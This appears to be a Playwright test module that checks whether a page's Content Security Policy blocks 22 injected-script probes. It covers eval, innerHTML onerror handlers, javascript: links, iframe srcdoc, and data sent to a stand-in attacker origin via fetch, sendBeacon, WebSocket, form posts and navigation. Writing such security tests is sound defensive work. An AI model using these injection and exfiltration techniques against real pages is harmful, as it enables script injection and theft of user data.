/**
 * What code that got into the page would try: 22 ways to run more of it, to fetch some, or to carry data away. Each runs
 * in a task of its own: what a debugger calls directly is let through by the browser, which would make all look reached.
 */
import type { Page } from "playwright/test";

export interface Target {
  readonly name: string;
  /** Origin of the attacker's server, which answers everything and allows everything. */
  readonly evil: string;
  /** A script of the page's own origin. */
  readonly ownScript: string;
}

interface Probe {
  readonly name: string;
  /** It takes the page away when it succeeds. */
  readonly leaves?: true;
  readonly run: (target: Target) => void;
}

declare global {
  interface Window {
    /** Names of the probes that got through, and of those that the browser refused. */
    probes: { reached: string[]; blocked: string[]; start(name: string, run: () => unknown): void };
  }
}

/** For `addInitScript`: notes what gets through and what is refused. */
export function prepare(): void {
  let current = "";
  window.probes = {
    reached: [],
    blocked: [],
    start: (name, run) =>
      setTimeout(() => {
        current = name;
        const refuse = () => window.probes.blocked.push(name);
        try {
          Promise.resolve(run()).catch(refuse);
        } catch {
          refuse();
        }
      }),
  };
  document.addEventListener("securitypolicyviolation", () => window.probes.blocked.push(current));
}

/** Functions go to the page as text, so each stands alone. */
export const PROBES: readonly Probe[] = [
  {
    name: "eval",
    run: ({ name }) =>
      // biome-ignore lint/security/noGlobalEval: this is the attack
      window.probes.start(name, () => window.eval(`window.probes.reached.push("${name}")`)),
  },
  {
    name: "new Function",
    run: ({ name }) =>
      window.probes.start(name, () =>
        Reflect.construct(Function, [`window.probes.reached.push("${name}")`])(),
      ),
  },
  {
    name: "string timer",
    run: ({ name }) =>
      window.probes.start(name, () =>
        Reflect.apply(setTimeout, window, [`window.probes.reached.push("${name}")`, 0]),
      ),
  },
  {
    name: "innerHTML",
    run: ({ name }) =>
      window.probes.start(name, () => {
        const part = document.body.appendChild(document.createElement("div"));
        part.innerHTML = `<img src="data:," onerror="window.probes.reached.push('${name}')">`;
      }),
  },
  {
    name: "script text",
    run: ({ name }) =>
      window.probes.start(name, () => {
        const script = document.createElement("script");
        script.text = `window.probes.reached.push("${name}")`;
        document.head.append(script);
      }),
  },
  {
    name: "script src",
    run: ({ name, evil }) =>
      window.probes.start(name, () => {
        const script = document.createElement("script");
        script.src = `${evil}/hit/${encodeURIComponent(name)}`;
        document.head.append(script);
      }),
  },
  {
    name: "onclick attribute",
    run: ({ name }) =>
      window.probes.start(name, () => {
        const button = document.body.appendChild(document.createElement("button"));
        button.setAttribute("onclick", `window.probes.reached.push("${name}")`);
        button.click();
      }),
  },
  {
    name: "iframe srcdoc",
    run: ({ name }) =>
      window.probes.start(name, () => {
        const frame = document.createElement("iframe");
        frame.srcdoc = `<script>parent.probes.reached.push("${name}")</script>`;
        document.body.append(frame);
      }),
  },
  {
    name: "javascript link",
    run: ({ name }) =>
      window.probes.start(name, () => {
        const link = document.body.appendChild(document.createElement("a"));
        link.href = `javascript:void window.probes.reached.push("${name}")`;
        link.click();
      }),
  },
  {
    name: "DOMParser",
    run: ({ name }) =>
      window.probes.start(name, () => {
        const parsed = new DOMParser().parseFromString(
          `<img src="data:," onerror="window.probes.reached.push('${name}')">`,
          "text/html",
        );
        document.body.append(...parsed.body.childNodes);
      }),
  },
  {
    name: "fetch",
    run: ({ name, evil }) => window.probes.start(name, () => fetch(`${evil}/hit/${name}`)),
  },
  {
    name: "beacon",
    run: ({ name, evil }) =>
      window.probes.start(name, () => navigator.sendBeacon(`${evil}/hit/${name}`, "stolen")),
  },
  {
    name: "image",
    run: ({ name, evil }) =>
      window.probes.start(name, () => {
        new Image().src = `${evil}/hit/${name}`;
      }),
  },
  {
    name: "style import",
    run: ({ name, evil }) =>
      window.probes.start(name, () => {
        const style = document.createElement("style");
        style.textContent = `@import url("${evil}/hit/${encodeURIComponent(name)}");`;
        document.head.append(style);
      }),
  },
  {
    name: "prefetch",
    run: ({ name, evil }) =>
      window.probes.start(name, () => {
        const link = document.createElement("link");
        link.rel = "prefetch";
        link.href = `${evil}/hit/${name}`;
        document.head.append(link);
      }),
  },
  {
    name: "event source",
    run: ({ name, evil }) =>
      window.probes.start(name, () => {
        new EventSource(`${evil}/hit/${encodeURIComponent(name)}`);
      }),
  },
  {
    name: "web socket",
    run: ({ name, evil }) =>
      window.probes.start(name, () => {
        new WebSocket(`${evil.replace("http", "ws")}/hit/${encodeURIComponent(name)}`);
      }),
  },
  {
    name: "blob worker",
    run: ({ name }) =>
      window.probes.start(name, () => {
        const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
        worker.onmessage = () => window.probes.reached.push(name);
      }),
  },
  {
    name: "service worker",
    run: ({ name, ownScript }) =>
      window.probes.start(name, () =>
        navigator.serviceWorker.register(ownScript).then(() => window.probes.reached.push(name)),
      ),
  },
  {
    name: "form",
    leaves: true,
    run: ({ name, evil }) =>
      window.probes.start(name, () => {
        const form = document.body.appendChild(document.createElement("form"));
        form.method = "post";
        form.action = `${evil}/hit/${name}`;
        form.submit();
      }),
  },
  {
    name: "window.open",
    run: ({ name, evil }) =>
      window.probes.start(name, () => {
        window.open(`${evil}/hit/${name}`);
      }),
  },
  {
    name: "navigation",
    leaves: true,
    run: ({ name, evil }) =>
      window.probes.start(name, () => {
        window.location.href = `${evil}/hit/${name}`;
      }),
  },
];

/** Which way each probe went: through to the page or to the attacker's server, or refused by the browser. */
export async function fates(
  open: () => Promise<Page>,
  target: Omit<Target, "name">,
  hits: ReadonlySet<string>,
): Promise<Readonly<Record<string, "reached" | "blocked">>> {
  const found: Record<string, "reached" | "blocked"> = {};
  let page: Page | null = null;
  for (const { name, run, leaves } of PROBES) {
    page ??= await open();
    await page.evaluate(run, { ...target, name });
    found[name] = await fateOf(page, name, hits);
    // A page that has left is none to try the next one in; closing it in the middle of that could wait for ever.
    if (leaves && found[name] === "reached") page = null;
  }
  return found;
}

async function fateOf(page: Page, name: string, hits: ReadonlySet<string>): Promise<"reached" | "blocked"> {
  const until = Date.now() + 10_000;
  while (Date.now() < until) {
    if (hits.has(name)) return "reached";
    // A page that is leaving may not answer at all; whether it arrived is told by the attacker's server.
    const said = await Promise.race([
      page.evaluate(() => window.probes).catch(() => null),
      new Promise<null>((resolve) => setTimeout(() => resolve(null), 250)),
    ]);
    if (said?.reached.includes(name)) return "reached";
    if (said?.blocked.includes(name) && !hits.has(name)) return "blocked";
  }
  throw new Error(`${name} neither got through nor was refused`);
}
